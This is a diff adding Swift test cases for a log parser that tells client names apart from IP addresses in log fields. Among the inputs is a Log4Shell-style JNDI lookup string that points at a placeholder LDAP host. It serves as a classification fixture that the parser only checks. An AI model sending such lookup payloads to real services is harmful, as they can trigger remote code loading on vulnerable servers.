@@ -255,6 +255,22 @@ struct LogFormatTests {
 @Suite("A client's address in a log")
 struct LogAddressTests {
     @Test(
+        "is not a name",
+        arguments: [
+            ("-", true), ("\"\"", true), ("ann", true), ("example.org:443", true), ("127.0.1.1:80", true),
+            ("web1", true),
+            ("${jndi:ldap://192.0.2.1/a}", true), ("[pod/web-0/nginx]", true), ("", false), ("{\"ts\":1,", false),
+            ("192.0.2.1", false), ("10.0.0.1", false), ("192.0.2.1:80", false), ("192.0.2.1,", false),
+            ("192.0.2.1,10.0.0.1", false), ("\"192.0.2.1\"", false), ("xff=192.0.2.1", false), ("[2001:db8::1]", false),
+            ("(192.0.2.1)", false),
+        ]
+    )
+    func names(_ word: String, _ isName: Bool) {
+        var word = word
+        #expect(word.withUTF8(LogAddress.isName) == isName)
+    }
+
+    @Test(
         "is the first public one of a list",
         arguments: [
             ("192.0.2.1", "192.0.2.1"), ("10.0.0.1", "10.0.0.1"), ("10.0.0.1, 192.0.2.1, 192.0.2.2", "192.0.2.1"),
@@ -359,6 +375,7 @@ struct LogReaderTests {
             // Another address may be the client's, or another field its User-Agent.
             ("198.51.100.7 %", "pass the server's log_format by --format, or leave such lines out"),
             ("198.51.100.7, 10.0.0.5 %", "pass the server's log_format by --format, or leave such lines out"),
+            ("\"198.51.100.7\" %", "pass the server's log_format by --format, or leave such lines out"),
             ("198.51.100.7:80 %", "pass the server's log_format by --format, or leave such lines out"),
             (
                 #"192.0.2.1 - j doe [24/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "x""#,
